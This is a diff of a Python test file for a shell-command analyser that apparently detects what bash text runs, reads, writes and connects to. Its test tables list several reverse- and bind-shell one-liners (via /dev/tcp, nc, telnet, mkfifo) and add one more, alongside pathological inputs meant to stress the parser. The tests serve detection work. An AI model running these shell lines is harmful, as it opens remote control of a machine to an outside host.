@@ -38,12 +38,18 @@ def _opaque(text: str) -> set[tuple[str, str]]:
         ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "reverse", "203.0.113.5", 4444),
         ("exec 5<>/dev/tcp/a.b/99; bash <&5 >&5 2>&5", "reverse", "a.b", 99),
         ("sh </dev/tcp/a.b/99 >&0 2>&0", "reverse", "a.b", 99),
-        ("exec 5<>/dev/tcp/a.b/9; cat <&5 | while read l; do $l 2>&5 >&5; done", "reverse", "a.b", 9),
+        (
+            "exec 5<>/dev/tcp/a.b/9; cat <&5 | while read l; do $l 2>&5 >&5; done",
+            "reverse",
+            "a.b",
+            9,
+        ),
         ("0<&9; exec 9<>/dev/udp/a.b/53; sh <&9 >&9", "reverse", "a.b", 53),
         ("mkfifo f; cat f | sh -i 2>&1 | nc a.b 99 > f", "reverse", "a.b", 99),
         ("nc a.b 99 | bash", "reverse", "a.b", 99),
         ("rm -f f; mknod f p; telnet a.b 99 0<f | sh 1>f", "reverse", "a.b", 99),
         ("nc -l -p 99 | sh", "bind", "", 99),
+        ("bash -i > /dev/tcp/a.b/99 2>&1", "reverse", "a.b", 99),
         ("while read l; do eval $l; done < /dev/tcp/a.b/7", "reverse", "a.b", 7),
     ],
 )
@@ -224,6 +230,24 @@ def test_both_branches_are_kept() -> None:
     assert set(_programs("case $1 in x) c=one;; *) c=two;; esac; $c")) == {"one", "two"}
 
 
+def test_output_of_both_branches_is_kept() -> None:
+    """What a branch prints is one of the texts that a substitution may give."""
+    text = "$(if a > /dev/null; then echo one; else echo two; fi)"
+    assert set(_programs(text)) == {"a", "one", "two"}
+    assert set(_programs("$(printf on; a > b && printf e)")) == {"a", "on", "one"}
+
+
+def test_variable_of_one_function_call_ends_with_it() -> None:
+    """An assignment before a function or a builtin is undone after it."""
+    assert _programs("f() { $c; }; c=one f; ${c:-two}") == ["one", "two"]
+    assert _programs("IFS=: read x y <<< one:b; $x ${IFS:0:1}") == ["one"]
+
+
+def test_lines_are_read_one_after_the_other() -> None:
+    """Each `read` takes the next line; at the end there is none."""
+    assert _programs("{ read a; read b; $a; $b; } <<< $'one\\ntwo'") == ["one", "two"]
+
+
 def test_long_loops_are_widened() -> None:
     """Beyond the bound one turn stands for all others, with anything in what changes."""
     parsed = _read("for i in $(seq 1000); do tool$i; done")
@@ -250,6 +274,7 @@ def test_long_loops_are_widened() -> None:
         ("for i in 1 2; do echo $i; done > /f", {"path": "/f", "content": "1\n2\n"}),
         ("exec 3> /f; echo a >&3", {"path": "/f", "content": "a\n"}),
         ("echo a >| /x/../f", {"path": "/f"}),
+        ("{ echo a; echo b >&2; } &> /f", {"path": "/f", "content": "a\nb\n"}),
     ],
 )
 def test_redirection_writes_a_file(text: str, expected: dict[str, Any]) -> None:
@@ -306,9 +331,7 @@ def test_runs_of_other_readers_are_followed() -> None:
 
 def test_known_environment_is_used() -> None:
     """Variables, home and folder that the host knows make names known."""
-    parsed = _read(
-        "$TOOL $HOME/x; cat y", cwd="/work", home="/home/u", environment={"TOOL": "ssh"}
-    )
+    parsed = _read("$TOOL $HOME/x; cat y", cwd="/work", home="/home/u", environment={"TOOL": "ssh"})
     assert _of(parsed, "process.exec")[0]["argv"] == ["ssh", "/home/u/x"]
     assert [o["path"] for o in _of(parsed, "file.read")] == ["/work/y"]
 
@@ -336,9 +359,10 @@ HOSTILE = {
     "replacement": "x=" + "a" * 60_000 + "; echo ${x//a*a*a*a*b/c}",
     "chain": "a" + " && a" * 3000,
     "pipeline": "cat" + " | cat" * 3000,
-    "eval": "x='eval \"$x\"'; eval \"$x\"",
-    "bash -c": "f='bash -c \"$f\"'; export f; bash -c \"$f\"",
-    "arithmetic": "a=b+b b=c+c c=d+d d=e+e e=f+f f=g+g g=h+h; echo $((a ** 9 ** 9)) $((" + "(" * 999,
+    "eval": 'x=\'eval "$x"\'; eval "$x"',
+    "bash -c": 'f=\'bash -c "$f"\'; export f; bash -c "$f"',
+    "arithmetic": "a=b+b b=c+c c=d+d d=e+e e=f+f f=g+g g=h+h; echo $((a ** 9 ** 9)) $(("
+    + "(" * 999,
     "arms": "case $x in " + "a) x=$x$y;; " * 2000 + "esac; $x",
     "aliases": "shopt -s expand_aliases\n"
     + "".join(f"alias a{i}='a{i + 1};a{i + 1}'\n" for i in range(30))
@@ -347,7 +371,7 @@ HOSTILE = {
     "pattern": "/bin/" + "*?" * 20_000 + " x",
     "processes": "cat " + "<(ls) " * 1000,
     "choices": "ls " + " ".join(f"a${{u{i}:+b}}b" for i in range(500)),
-    "prompt": "x='$(echo \"${x@P}\")'; echo \"${x@P}\"",
+    "prompt": 'x=\'$(echo "${x@P}")\'; echo "${x@P}"',
     "bytes": "echo \ud800 $'\\xff\\xfe' > x; cat x | bash; $'\\xff'",
 }
 
